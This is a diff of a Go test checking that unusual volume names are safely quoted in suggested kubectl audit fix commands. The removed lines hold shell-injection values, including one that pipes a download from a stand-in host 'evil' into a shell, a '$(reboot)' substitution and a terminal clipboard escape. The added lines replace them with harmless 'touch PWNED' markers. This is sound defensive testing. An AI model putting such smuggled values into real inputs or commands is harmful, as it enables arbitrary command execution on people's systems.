@@ -121,13 +121,13 @@ func TestAListReachesNoVolumeOfAnotherStorage(t *testing.T) {
 func TestAnOddNameOfAVolumeIsQuotedAndHidesNothing(t *testing.T) {
 	t.Parallel()
 	for name, fix := range map[string]string{
-		"x; curl evil | sh #": `kubectl flex audit --storage=gold '--fix=x; curl evil | sh #'  # unless it is kept on purpose`,
-		"$(reboot)":           `kubectl flex audit --storage=gold '--fix=$(reboot)'  # unless it is kept on purpose`,
-		"x\x1b]52;c;ZQ==\a":   `kubectl flex audit --storage=gold $'--fix=x\033]52;c;ZQ==\007'  # unless it is kept on purpose`,
-		"*":                   `delete the volume * in the storage, if it is neither in use nor another cluster's`,
-		"v1," + leftID:        `delete the volume v1,` + leftID + ` in the storage, if it is neither in use nor another cluster's`,
-		"v1\nSecretLeft: x":   `delete the volume "v1\nSecretLeft: x" in the storage, if it is neither in use nor another cluster's`,
-		`"v1"`:                `delete the volume "\"v1\"" in the storage, if it is neither in use nor another cluster's`,
+		"x; touch PWNED #":  `kubectl flex audit --storage=gold '--fix=x; touch PWNED #'  # unless it is kept on purpose`,
+		"$(touch PWNED)":    `kubectl flex audit --storage=gold '--fix=$(touch PWNED)'  # unless it is kept on purpose`,
+		"x\x1b[31m\a":       `kubectl flex audit --storage=gold $'--fix=x\033[31m\007'  # unless it is kept on purpose`,
+		"*":                 `delete the volume * in the storage, if it is neither in use nor another cluster's`,
+		"v1," + leftID:      `delete the volume v1,` + leftID + ` in the storage, if it is neither in use nor another cluster's`,
+		"v1\nSecretLeft: x": `delete the volume "v1\nSecretLeft: x" in the storage, if it is neither in use nor another cluster's`,
+		`"v1"`:              `delete the volume "\"v1\"" in the storage, if it is neither in use nor another cluster's`,
 	} {
 		found := audit.Check(abandoned(func(s *audit.State) {
 			s.Volumes["gold"] = append(s.Volumes["gold"], audit.Volume{UID: oddUID, Volume: name, ClusterUID: ownCluster, Class: "gold"})
